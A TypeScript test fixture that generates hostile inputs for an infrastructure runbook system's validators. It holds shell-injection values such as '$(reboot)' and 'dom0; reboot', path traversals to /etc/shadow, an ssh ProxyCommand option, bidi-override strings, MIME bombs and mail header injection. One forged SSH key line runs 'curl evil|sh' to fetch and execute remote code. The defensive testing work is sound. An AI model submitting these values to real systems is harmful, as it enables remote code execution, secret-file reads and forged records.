/**
 * The hostile-input corpus: for every runbook input and every Update argument, a valid value with ONE field made
 * hostile (a forged line, NUL, a right-to-left override, a path out of /dev, an option for a device, a zero or
 * endless duration, a wrong type, an unknown key). Each case names the field its refusal must name. A new runbook
 * joins by adding its schema and a valid base to RUNBOOK_BASES; a new field of a known kind is covered at once.
 */
import { ZodDefault, ZodOptional, type z } from 'zod';
import { helpOf } from '../../common/validation.js';
import {
  Approval, Decision, DiskReplacedAnswer, DiskReplacementInput, InstallDoneAnswer, GanetiHypervisorSetupInput, HypervisorRebootInput, ProxmoxSnapshotInput, LuksKeyRotationInput, NodeSeparationInput, ClusterTeardownInput, PassphraseAnswer,
  RebootHostInput, RollingClusterRebootInput, VmBackupInput, VmDiskResizeInput, VmMigrationInput, VmOnboardingInput, VmRestoreInput, VmSnapshotInput,
} from '../../common/inputs.js';
import { MailIntakeInput, VmRequestInput } from '../../common/requests.js';

export interface HostileCase {
  /** The schema's name: a workflow type or an Update name. */
  target: string;
  /** What was made hostile, for the test's title. */
  label: string;
  /** The whole value sent: a valid base with one field replaced. */
  value: Record<string, unknown>;
  /** The field the refusal must name (its path as describeIssues prints it). */
  field: string;
}

/** Lines, controls, overrides and invisibles: each would forge or disguise what a record, a mail or a terminal shows. */
export const HOSTILE_TEXT: Record<string, string> = {
  'a forged line': 'ok\napproved by: root',
  'a carriage return': 'ok\rroot',
  'NUL': 'alice\0root',
  'ESC (terminal colours)': '\x1b[31mroot\x1b[0m',
  'a tab': 'a\tb',
  'DEL': 'a\x7f',
  'C1 NEL': 'a\u0085b',
  'U+2028 line separator': 'a\u2028approved',
  'U+202E right-to-left override': 'alice\u202eecila',
  'U+202A left-to-right embedding': '\u202aalice',
  'U+2066 isolate': 'alice\u2066',
  'U+2069 pop isolate': 'alice\u2069',
  'U+200F right-to-left mark': 'al\u200fice',
  'U+200E left-to-right mark': 'al\u200eice',
  'U+200B zero width space': 'al\u200bice',
  'U+FEFF byte order mark': '\ufeffalice',
  'a lone surrogate': 'a\ud800b',
};

const HOSTILE_HOSTS: Record<string, string> = {
  'a shell command': 'dom0; reboot',
  'a command substitution': '$(reboot)',
  'an ssh option': '-oProxyCommand=sh',
  'a path': '../../etc/passwd',
  'upper case': 'DOM0-A',
  'a trailing newline': 'dom0-a\n',
  'empty': '',
  '64 characters': 'a'.repeat(64),
  'a space': 'dom0 a',
  'a right-to-left override': 'dom0\u202e',
};

/** Per duration: zero, below a second, negative, beyond every bound, not a duration at all. */
const HOSTILE_DURATIONS: Record<string, string> = {
  '0s': '0s',
  'zero without a unit': '0',
  'half a second': '0.5s',
  'negative': '-1s',
  '99999999999999999999 days': '99999999999999999999 days',
  '400 days': '400 days',
  'a word': 'often',
  'a tab inside': '5\tminutes',
  'weeks (not ours)': '2 weeks',
  'an exponent': '1e9s',
  'a trailing newline': '10s\n',
};

const HOSTILE_DEVICES: Record<string, string> = {
  'out of /dev': '/dev/../../etc/passwd',
  'an option': '/dev/--force',
  'a dash-led component': '/dev/mapper/-x',
  'a trailing ..': '/dev/sda5/..',
  'a dot component': '/dev/./sda5',
  'not under /dev': '/etc/passwd',
  'an empty component': '/dev//sda5',
  'a shell separator': '/dev/sda5;reboot',
  'a newline': '/dev/sda5\n/dev/sdb5',
  'too long': `/dev/${'a'.repeat(300)}`,
  'a trailing slash': '/dev/sda5/',
  'relative': 'dev/sda5',
};

/** A request as the mail intake hands it to its run (started by hand too: the UI, temporal workflow start). */
const VM_REQUEST = {
  workflowId: `vm-request-${'0'.repeat(32)}`, messageId: '<1@laptop>', subject: 'Demande de VM', verdict: 'unverified',
  from: { address: 'alice@lab.invalid', name: 'Alice' }, reasons: ['alice@lab.invalid is not in the member list'],
  auth: { dkim: 'none', spf: 'none', dmarc: 'none' }, privateKeySent: false,
  key: { type: 'ssh-ed25519', bits: 256, fingerprint: `SHA256:${'A'.repeat(43)}`, line: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop' },
};

/** A member's VM, as `npx runbook start vm-onboarding` sends it. */
const VM_ONBOARDING = { member: 'alice@lab.invalid', sshKey: VM_REQUEST.key.line };

/** The runbooks and a valid input of each: every hostile case changes one field of it. */
export const RUNBOOK_BASES: { target: string; schema: z.ZodObject; base: Record<string, unknown> }[] = [
  { target: 'diskReplacement', schema: DiskReplacementInput, base: { host: 'dom0-hostile' } },
  { target: 'rebootHost', schema: RebootHostInput, base: { host: 'dom0-hostile', action: 'reboot', reason: 'kernel upgrade' } },
  { target: 'hypervisorReboot', schema: HypervisorRebootInput, base: { host: 'dom0-hostile', reason: 'kernel upgrade' } },
  { target: 'rollingClusterReboot', schema: RollingClusterRebootInput, base: { cluster: 'hostile', reason: 'monthly updates' } },
  { target: 'luksKeyRotation', schema: LuksKeyRotationInput, base: { host: 'hpve1' } },
  { target: 'vmBackup', schema: VmBackupInput, base: { host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' } },
  { target: 'vmSnapshot', schema: VmSnapshotInput, base: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', purpose: 'config-change' } },
  { target: 'vmRestore', schema: VmRestoreInput, base: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', from: 'snapshot', snapshot: 'guest1_root_snap1' } },
  { target: 'proxmoxSnapshot', schema: ProxmoxSnapshotInput, base: { host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' } },
  { target: 'ganetiHypervisorSetup', schema: GanetiHypervisorSetupInput, base: { host: 'gnt-hostile' } },
  { target: 'nodeSeparation', schema: NodeSeparationInput, base: { host: 'hpve2', reason: 'moving to the new architecture' } },
  { target: 'clusterTeardown', schema: ClusterTeardownInput, base: { cluster: 'hostile', reason: 'reinstalling on the new architecture' } },
  { target: 'vmDiskResize', schema: VmDiskResizeInput, base: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' } },
  { target: 'vmRequest', schema: VmRequestInput, base: VM_REQUEST },
  { target: 'mailIntake', schema: MailIntakeInput, base: { pollEvery: '30s' } },
  { target: 'vmOnboarding', schema: VmOnboardingInput, base: VM_ONBOARDING },
  { target: 'vmMigration', schema: VmMigrationInput, base: { instance: 'REF-HOST-VM-7', targetNode: 'gnt-hostile', reason: 'the node is drained' } },
];

/** A sealed value of the right shape (never opened: every case here is refused before). */
export const SEALED_SHAPE = {
  sealed: 'x25519-hkdf-sha256-aes-256-gcm', keyId: 'x25519-0000000000000000', ephemeralPublicKey: 'AAAA', iv: 'AAAA', ciphertext: 'AAAA', tag: 'AAAA',
};

/** A plaintext passphrase: a refusal must never quote it. */
export const PLAINTEXT_SECRET = 'hunter2 correct horse';

export const UPDATE_BASES: { target: string; schema: z.ZodType; base: Record<string, unknown> }[] = [
  { target: 'approve', schema: Approval, base: { by: 'alice', comment: 'maintenance window' } },
  { target: 'decide', schema: Decision, base: { by: 'bob', decision: 'retry', comment: 'looked at the console' } },
  { target: 'diskReplaced', schema: DiskReplacedAnswer, base: { by: 'camille', comment: 'slot 0' } },
  { target: 'installDone', schema: InstallDoneAnswer, base: { by: 'alice', comment: 'Debian installed' } },
  { target: 'submitPassphrase', schema: PassphraseAnswer, base: { by: 'bob', passphrase: SEALED_SHAPE } },
];

/** People's text, by field name (their schemas are built per field); hosts and durations by their schemas' metadata. */
const TEXT_FIELDS = new Set(['reason', 'by', 'comment', 'requestedBy']);

/** A field's schema without its optional/default wrappers: what its values are checked by. */
function innerOf(schema: z.ZodType): z.ZodType {
  let inner = schema;
  while (inner instanceof ZodOptional || inner instanceof ZodDefault) inner = inner.unwrap() as z.ZodType;
  return inner;
}

function casesFor(target: string, schema: z.ZodObject, base: Record<string, unknown>): HostileCase[] {
  const out: HostileCase[] = [];
  const one = (field: string, label: string, value: unknown) => out.push({ target, label: `${field}: ${label}`, value: { ...base, [field]: value }, field });
  for (const [field, fieldSchema] of Object.entries(schema.shape as Record<string, z.ZodType>)) {
    const kind = helpOf(innerOf(fieldSchema)).placeholder;
    if (TEXT_FIELDS.has(field)) {
      for (const [label, text] of Object.entries(HOSTILE_TEXT)) one(field, label, text);
      one(field, 'too long', 'x'.repeat(501));
      if (field !== 'comment') one(field, 'blank', '   ');
      one(field, 'a number', 42);
    }
    if (kind === 'HOST') for (const [label, host] of Object.entries(HOSTILE_HOSTS)) one(field, label, host);
    if (kind === 'DURATION') for (const [label, d] of Object.entries(HOSTILE_DURATIONS)) one(field, label, d);
    if (field === 'device') for (const [label, d] of Object.entries(HOSTILE_DEVICES)) one(field, label, d);
  }
  return out;
}

/** A well-formed approval record, as a roll passes it to its nodes. */
const rollApproval = { by: 'alice', plan: `sha256:${'0'.repeat(64)}`, at: '2026-01-01T00:00:00.000Z', how: 'signed' };

const SPECIFIC: HostileCase[] = [
  { target: 'diskReplacement', label: 'arrays: a command', value: { host: 'dom0-hostile', arrays: ['$(reboot)'] }, field: 'arrays[0]' },
  { target: 'diskReplacement', label: 'arrays: a newline', value: { host: 'dom0-hostile', arrays: ['md0\nmd1'] }, field: 'arrays[0]' },
  { target: 'diskReplacement', label: 'arrays: empty list', value: { host: 'dom0-hostile', arrays: [] }, field: 'arrays' },
  { target: 'diskReplacement', label: 'failedDisk: an option', value: { host: 'dom0-hostile', failedDisk: '-sda' }, field: 'failedDisk' },
  { target: 'diskReplacement', label: 'failedDisk: a path', value: { host: 'dom0-hostile', failedDisk: '../sda' }, field: 'failedDisk' },
  { target: 'diskReplacement', label: 'failedDisk: a newline', value: { host: 'dom0-hostile', failedDisk: 'sda\nsdb' }, field: 'failedDisk' },
  { target: 'diskReplacement', label: 'swap: unknown', value: { host: 'dom0-hostile', swap: 'yes' }, field: 'swap' },
  { target: 'diskReplacement', label: 'an unknown key', value: { host: 'dom0-hostile', force: true }, field: 'force' },
  { target: 'rebootHost', label: 'action: unknown', value: { host: 'dom0-hostile', action: 'halt', reason: 'x' }, field: 'action' },
  { target: 'rebootHost', label: 'comesBackIn: unknown', value: { host: 'dom0-hostile', action: 'reboot', reason: 'x', comesBackIn: 'telnet' }, field: 'comesBackIn' },
  { target: 'rebootHost', label: 'reason: missing', value: { host: 'dom0-hostile', action: 'reboot' }, field: 'reason' },
  { target: 'hypervisorReboot', label: 'unlockTries: 0', value: { host: 'dom0-hostile', reason: 'x', unlockTries: 0 }, field: 'unlockTries' },
  { target: 'hypervisorReboot', label: 'unlockTries: 1000', value: { host: 'dom0-hostile', reason: 'x', unlockTries: 1000 }, field: 'unlockTries' },
  { target: 'hypervisorReboot', label: 'unlockTries: 1.5', value: { host: 'dom0-hostile', reason: 'x', unlockTries: 1.5 }, field: 'unlockTries' },
  { target: 'hypervisorReboot', label: 'afterUpgrade: a string', value: { host: 'dom0-hostile', reason: 'x', afterUpgrade: 'yes' }, field: 'afterUpgrade' },
  {
    target: 'hypervisorReboot', label: 'approvedInRoll.approvals[0].by: a right-to-left override',
    value: { host: 'dom0-hostile', reason: 'x', approvedInRoll: { approvals: [{ ...rollApproval, by: 'alice\u202e' }], roll: 'r', commands: [] } }, field: 'approvedInRoll.approvals[0].by',
  },
  {
    target: 'hypervisorReboot', label: 'approvedInRoll.comment: a forged line',
    value: { host: 'dom0-hostile', reason: 'x', approvedInRoll: { approvals: [{ ...rollApproval, comment: 'ok\napproved: root' }], roll: 'r', commands: [] } }, field: 'approvedInRoll.approvals[0].comment',
  },
  { target: 'hypervisorReboot', label: 'a passphrase key in the input', value: { host: 'dom0-hostile', reason: 'x', passphrase: PLAINTEXT_SECRET }, field: 'passphrase' },
  { target: 'rollingClusterReboot', label: 'reason: too long for its children', value: { cluster: 'hostile', reason: 'x'.repeat(401) }, field: 'reason' },
  { target: 'rollingClusterReboot', label: 'host: not a field of a roll', value: { cluster: 'hostile', reason: 'x', host: 'hpve1' }, field: 'host' },
  { target: 'luksKeyRotation', label: 'device: a number', value: { host: 'hpve1', device: 5 }, field: 'device' },
  { target: 'luksKeyRotation', label: 'an old passphrase in clear', value: { host: 'hpve1', oldPassphrase: PLAINTEXT_SECRET }, field: 'oldPassphrase' },
  { target: 'vmDiskResize', label: 'add: a shrink', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, add: '-2G' }, field: 'add' },
  { target: 'vmDiskResize', label: 'add: no unit', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, add: '2048' }, field: 'add' },
  { target: 'vmDiskResize', label: 'add: a command', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, add: '2G;reboot' }, field: 'add' },
  { target: 'vmDiskResize', label: 'add: zero', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, add: '0G' }, field: 'add' },
  { target: 'vmDiskResize', label: 'volume: an option', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, volume: '-guest1_root' }, field: 'volume' },
  { target: 'vmDiskResize', label: 'volume: a path', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, volume: '../../sda' }, field: 'volume' },
  { target: 'vmDiskResize', label: 'volume: ..', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, volume: '..' }, field: 'volume' },
  { target: 'vmDiskResize', label: 'vg: a space', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, vg: 'vg0 vg1' }, field: 'vg' },
  { target: 'vmDiskResize', label: 'guest: a command', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, guest: '$(reboot)' }, field: 'guest' },
  { target: 'vmDiskResize', label: 'guest: a newline', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' }, guest: 'guest1\nguest2' }, field: 'guest' },
  { target: 'vmBackup', label: 'file: relative', value: { ...{ host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' }, file: 'guest1.raw.bz2' }, field: 'file' },
  { target: 'vmBackup', label: 'file: out of its folder', value: { ...{ host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' }, file: '/srv/backup/../../etc/shadow' }, field: 'file' },
  { target: 'vmBackup', label: 'file: a redirection', value: { ...{ host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' }, file: '/srv/x.bz2 > /etc/passwd' }, field: 'file' },
  { target: 'vmBackup', label: 'snapshot: a command', value: { ...{ host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' }, snapshot: 'snap;reboot' }, field: 'snapshot' },
  { target: 'vmBackup', label: 'removeSnapshot: a string', value: { ...{ host: 'dom0-hostile', snapshot: 'guest1_root_snap1', file: '/srv/backup/guest1.raw.bz2' }, removeSnapshot: 'yes' }, field: 'removeSnapshot' },
  { target: 'vmSnapshot', label: 'purpose: unknown', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', purpose: 'config-change' }, purpose: 'yolo' }, field: 'purpose' },
  { target: 'vmSnapshot', label: 'purpose: missing', value: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root' }, field: 'purpose' },
  { target: 'vmSnapshot', label: 'fillThreshold: 100', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', purpose: 'config-change' }, fillThreshold: 100 }, field: 'fillThreshold' },
  { target: 'vmSnapshot', label: 'fillThreshold: 0', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', purpose: 'config-change' }, fillThreshold: 0 }, field: 'fillThreshold' },
  { target: 'vmSnapshot', label: 'name: an option', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', purpose: 'config-change' }, name: '--force' }, field: 'name' },
  { target: 'vmRestore', label: 'snapshot: missing for from snapshot', value: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', from: 'snapshot' }, field: 'snapshot' },
  { target: 'vmRestore', label: 'file: missing for from file', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', from: 'snapshot', snapshot: 'guest1_root_snap1' }, from: 'file' }, field: 'file' },
  { target: 'vmRestore', label: 'from: unknown', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', from: 'snapshot', snapshot: 'guest1_root_snap1' }, from: 'tape' }, field: 'from' },
  { target: 'vmRestore', label: 'file: out of its folder', value: { ...{ host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', from: 'snapshot', snapshot: 'guest1_root_snap1' }, from: 'file', file: '/srv/../etc/shadow' }, field: 'file' },
  { target: 'proxmoxSnapshot', label: 'name: an option', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, name: '--purge' }, field: 'name' },
  { target: 'proxmoxSnapshot', label: 'name: a command', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, name: 'a;reboot' }, field: 'name' },
  { target: 'proxmoxSnapshot', label: 'vmid: a string', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, vmid: '2010; reboot' }, field: 'vmid' },
  { target: 'proxmoxSnapshot', label: 'vmid: negative', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, vmid: -1 }, field: 'vmid' },
  { target: 'proxmoxSnapshot', label: 'action: unknown', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, action: 'destroy' }, field: 'action' },
  { target: 'proxmoxSnapshot', label: 'description: a forged line', value: { ...{ host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' }, description: 'ok\napproved: root' }, field: 'description' },
  { target: 'ganetiHypervisorSetup', label: 'group: a command', value: { host: 'gnt-hostile', group: 'g;reboot' }, field: 'group' },
  { target: 'ganetiHypervisorSetup', label: 'group: an option', value: { host: 'gnt-hostile', group: '--system' }, field: 'group' },
  { target: 'ganetiHypervisorSetup', label: 'group: a newline', value: { host: 'gnt-hostile', group: 'a\nMatch all' }, field: 'group' },
  { target: 'decide', label: 'decision: unknown', value: { by: 'bob', decision: 'nuke' }, field: 'decision' },
  { target: 'decide', label: 'skip without a reason', value: { by: 'bob', decision: 'skip' }, field: 'comment' },
  { target: 'decide', label: 'skip with a blank reason', value: { by: 'bob', decision: 'skip', comment: '  ' }, field: 'comment' },
  { target: 'approve', label: 'by: missing', value: { comment: 'ok' }, field: 'by' },
  { target: 'approve', label: 'an unknown key', value: { by: 'alice', as: 'root' }, field: 'as' },
  { target: 'diskReplaced', label: 'by: missing', value: { comment: 'done' }, field: 'by' },
  { target: 'submitPassphrase', label: 'passphrase: in clear', value: { by: 'bob', passphrase: PLAINTEXT_SECRET }, field: 'passphrase' },
  { target: 'submitPassphrase', label: 'passphrase: an unknown scheme', value: { by: 'bob', passphrase: { ...SEALED_SHAPE, sealed: 'rot13' } }, field: 'passphrase' },
  { target: 'submitPassphrase', label: 'passphrase: not base64', value: { by: 'bob', passphrase: { ...SEALED_SHAPE, ciphertext: `${PLAINTEXT_SECRET}\n` } }, field: 'passphrase' },
  { target: 'submitPassphrase', label: 'passphrase: an extra field', value: { by: 'bob', passphrase: { ...SEALED_SHAPE, plaintext: PLAINTEXT_SECRET } }, field: 'passphrase' },
  { target: 'approve', label: 'signature: not an SSH signature', value: { by: 'alice', signature: 'ssh-ed25519 AAAA' }, field: 'signature' },
  { target: 'approve', label: 'plan: not a plan hash', value: { by: 'alice', plan: 'sha256:../../etc' }, field: 'plan' },
  ...Object.entries(HOSTILE_TEXT).flatMap(([label, text]) => [
    { target: 'vmRequest', label: `subject: ${label}`, value: { ...VM_REQUEST, subject: text }, field: 'subject' },
    { target: 'vmRequest', label: `from.name: ${label}`, value: { ...VM_REQUEST, from: { address: 'alice@lab.invalid', name: text } }, field: 'from.name' },
    { target: 'vmRequest', label: `reasons: ${label}`, value: { ...VM_REQUEST, reasons: [text] }, field: 'reasons[0]' },
  ]),
  { target: 'vmRequest', label: 'key.line: command= before the type', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, line: `command="sh" ${VM_REQUEST.key.line}` } }, field: 'key.line' },
  { target: 'vmRequest', label: 'key.line: a second line', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, line: `${VM_REQUEST.key.line}\nssh-ed25519 AAAA` } }, field: 'key.line' },
  { target: 'vmRequest', label: 'key.type: ssh-dss', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, type: 'ssh-dss' } }, field: 'key.type' },
  { target: 'vmRequest', label: 'verdict: unknown', value: { ...VM_REQUEST, verdict: 'trusted' }, field: 'verdict' },
  { target: 'vmRequest', label: 'verdict ok without a member', value: { ...VM_REQUEST, verdict: 'ok', reasons: [] }, field: 'member' },
  { target: 'vmRequest', label: 'workflowId: not from a Message-ID', value: { ...VM_REQUEST, workflowId: 'mine' }, field: 'workflowId' },
  { target: 'mailIntake', label: 'pollsPerRun: 0', value: { pollsPerRun: 0 }, field: 'pollsPerRun' },
  { target: 'mailIntake', label: 'pollsPerRun: a million', value: { pollsPerRun: 1e6 }, field: 'pollsPerRun' },
  { target: 'vmRequest', label: 'an unknown key', value: { ...VM_REQUEST, approvedBy: 'root' }, field: 'approvedBy' },
  { target: 'vmOnboarding', label: 'sshKey: command= before the type', value: { ...VM_ONBOARDING, sshKey: `command="sh" ${VM_ONBOARDING.sshKey}` }, field: 'sshKey' },
  { target: 'vmOnboarding', label: 'sshKey: a second line', value: { ...VM_ONBOARDING, sshKey: `${VM_ONBOARDING.sshKey}\nssh-ed25519 AAAA` }, field: 'sshKey' },
  { target: 'vmOnboarding', label: 'sshKey: a private key', value: { ...VM_ONBOARDING, sshKey: '-----BEGIN OPENSSH PRIVATE KEY-----' }, field: 'sshKey' },
  { target: 'vmOnboarding', label: 'sshKey: ssh-dss', value: { ...VM_ONBOARDING, sshKey: 'ssh-dss AAAAB3NzaC1kc3MAAACBAP' }, field: 'sshKey' },
  { target: 'vmOnboarding', label: 'member: not an address', value: { ...VM_ONBOARDING, member: 'alice; reboot' }, field: 'member' },
  { target: 'vmOnboarding', label: 'member: a newline', value: { ...VM_ONBOARDING, member: 'alice@lab.invalid\nbcc: x@y.z' }, field: 'member' },
  { target: 'vmOnboarding', label: 'os: an option', value: { ...VM_ONBOARDING, os: '--no-install' }, field: 'os' },
  { target: 'vmMigration', label: 'instance: another user\'s account', value: { instance: 'root', targetNode: 'gnt-hostile', reason: 'x' }, field: 'instance' },
  { target: 'vmMigration', label: 'instance: a path', value: { instance: 'ref-host-vm-7/../../etc', targetNode: 'gnt-hostile', reason: 'x' }, field: 'instance' },
  { target: 'vmMigration', label: 'targetNode: an option', value: { instance: 'REF-HOST-VM-7', targetNode: '-f', reason: 'x' }, field: 'targetNode' },
  { target: 'vmOnboarding', label: 'os: a command', value: { ...VM_ONBOARDING, os: 'debootstrap;reboot' }, field: 'os' },
  { target: 'vmOnboarding', label: 'diskGiB: zero', value: { ...VM_ONBOARDING, diskGiB: 0 }, field: 'diskGiB' },
  { target: 'vmOnboarding', label: 'diskGiB: a string', value: { ...VM_ONBOARDING, diskGiB: '10G;reboot' }, field: 'diskGiB' },
  { target: 'vmOnboarding', label: 'platform: unknown', value: { ...VM_ONBOARDING, platform: 'xen' }, field: 'platform' },
  { target: 'vmOnboarding', label: 'storage: a path and a command', value: { ...VM_ONBOARDING, storage: 'local:../../etc;reboot' }, field: 'storage' },
  { target: 'vmOnboarding', label: 'memoryMiB: a terabyte and more', value: { ...VM_ONBOARDING, memoryMiB: 2 * 1024 * 1024 }, field: 'memoryMiB' },
  { target: 'vmOnboarding', label: 'cores: none', value: { ...VM_ONBOARDING, cores: 0 }, field: 'cores' },
  { target: 'vmOnboarding', label: 'request.messageId: a forged line', value: { ...VM_ONBOARDING, request: { messageId: '<a@b>\nBcc: x@y.z', verdict: 'ok' } }, field: 'request.messageId' },
];

/** Every case, generated: one field made hostile per case. */
export function hostileCases(): HostileCase[] {
  const all: HostileCase[] = [];
  for (const { target, schema, base } of [...RUNBOOK_BASES, ...UPDATE_BASES]) all.push(...casesFor(target, schema as z.ZodObject, base));
  return [...all, ...SPECIFIC];
}

export function schemaOf(target: string): z.ZodType {
  const found = [...RUNBOOK_BASES, ...UPDATE_BASES].find((b) => b.target === target);
  if (!found) throw new Error(`no schema for ${target}`);
  return found.schema;
}

// ---------------------------------------------------------------- hostile request mails (the mail intake)

/** A request mail from `from`, with `body` and optional raw MIME `extraHeaders`; CRLF line ends as on the wire. */
export function requestMail(o: { from: string; to: string; subject?: string; messageId: string; body: string; extraHeaders?: string[]; contentType?: string }): string {
  return [
    `From: ${o.from}`,
    `To: ${o.to}`,
    `Subject: ${o.subject ?? 'Demande de VM'}`,
    `Message-ID: ${o.messageId}`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    ...(o.extraHeaders ?? []),
    `Content-Type: ${o.contentType ?? 'text/plain; charset=utf-8'}`,
    '',
    o.body,
    '',
  ].join('\r\n');
}

/** A MIME bomb: parts nested inside parts, far beyond what a request holds. */
function mimeBomb(depth: number): { contentType: string; body: string } {
  let body = 'ssh-ed25519 AAAA';
  let contentType = 'text/plain';
  for (let i = 0; i < depth; i++) {
    const boundary = `b${i}`;
    body = [`--${boundary}`, `Content-Type: ${contentType}${i ? `; boundary="b${i - 1}"` : ''}`, '', body, `--${boundary}--`].join('\r\n');
    contentType = 'multipart/mixed';
  }
  return { contentType: `multipart/mixed; boundary="b${depth - 1}"`, body };
}

/**
 * Hostile or malformed requests, each from a listed member (so only what is wrong with the mail refuses it): the
 * raw mail for `key` (a valid public key line) and the reason the verdict must give. None may start a host change.
 */
export function hostileRequestMails(o: { member: string; to: string; key: string; privateKey: string }): { label: string; raw: string; reason: RegExp }[] {
  const id = (label: string) => `<hostile-${label.replace(/\W+/g, '-')}-${Date.now()}@lab.invalid>`;
  const mail = (label: string, body: string, extra: Partial<Parameters<typeof requestMail>[0]> = {}) =>
    ({ label, raw: requestMail({ from: o.member, to: o.to, messageId: id(label), body, ...extra }) });
  const bomb = mimeBomb(60);
  return [
    { ...mail('no key', 'Bonjour, je voudrais une VM.'), reason: /no SSH public key/ },
    { ...mail('two keys', `${o.key}\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl other`), reason: /2 SSH public keys/ },
    { ...mail('a key with command=', `command="/bin/sh -c 'curl evil|sh'",no-pty ${o.key}`), reason: /options before its type/ },
    { ...mail('a key with from=', `from="10.0.0.0/8" ${o.key}`), reason: /options before its type/ },
    { ...mail('a DSA key', 'ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old'), reason: /ssh-dss is not accepted/ },
    { ...mail('a truncated key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0'), reason: /truncated|not valid base64|32 bytes/ },
    { ...mail('a key whose data says another type', `ssh-rsa ${o.key.split(' ')[1]}`), reason: /does not match its type/ },
    { ...mail('a private key', `${o.key}\r\n${o.privateKey.replace(/\n/g, '\r\n')}`), reason: /PRIVATE SSH key/ },
    { ...mail('a MIME bomb', bomb.body, { contentType: bomb.contentType }), reason: /MIME parts/ },
    { ...mail('a huge mail', `${o.key}\r\n${'A'.repeat(76).concat('\r\n').repeat(4000)}`), reason: /bytes: a request is at most/ },
    { ...mail('a From with a newline (encoded)', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\r\nBcc: everyone@lab.invalid').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
    { ...mail('a From name with a right-to-left override', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\u202eecilA').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
    { ...mail('two From headers', o.key, { extraHeaders: [`From: root@lab.invalid`] }), reason: /exactly one From header/ },
    { ...mail('a From with two addresses', o.key, { from: `${o.member}, root@lab.invalid` }), reason: /exactly one sender/ },
  ];
}
